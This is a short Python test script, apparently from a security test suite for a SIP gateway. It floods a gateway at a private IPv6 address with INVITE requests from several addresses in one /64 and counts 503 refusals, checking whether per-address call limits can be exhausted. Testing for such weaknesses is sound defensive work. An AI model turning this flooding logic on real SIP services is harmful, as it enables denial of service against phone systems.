"""Three addresses of one IPv6 /64 take all of max_calls."""

import time
from typing import Set

from attack import short_invite
from phones import Message, udp
from verdict import control, finish, right

GATEWAY = ("fd77::11", 5060)


def refused(address: str, count: int) -> int:
    """Requests calls to where nothing answers: how many of them are refused by 503."""
    phone = udp(address, 5070)
    phone.setblocking(False)
    calls: Set[str] = set()
    for number in range(count + 1):
        if number < count:
            phone.sendto(short_invite((address, 5070), "sip:x@[fd77::99]:9"), GATEWAY)
        time.sleep(0.001 if number < count else 0.5)
        try:
            while True:
                answer = Message(*phone.recvfrom(9999))
                if answer.code == 503:
                    calls.add(answer.get("call-id"))
        except BlockingIOError:
            pass
    return len(calls)


count = refused("fd77::1", 520)
control(f"one address has a share ({count} of its 520 calls are refused)", 0 < count < 520)
counts = [refused(f"fd77::{host}", 520) for host in (2, 3)]
right(f"others of its /64 have no share of their own ({counts} of 520 are refused)", min(counts) >= 510)
finish()
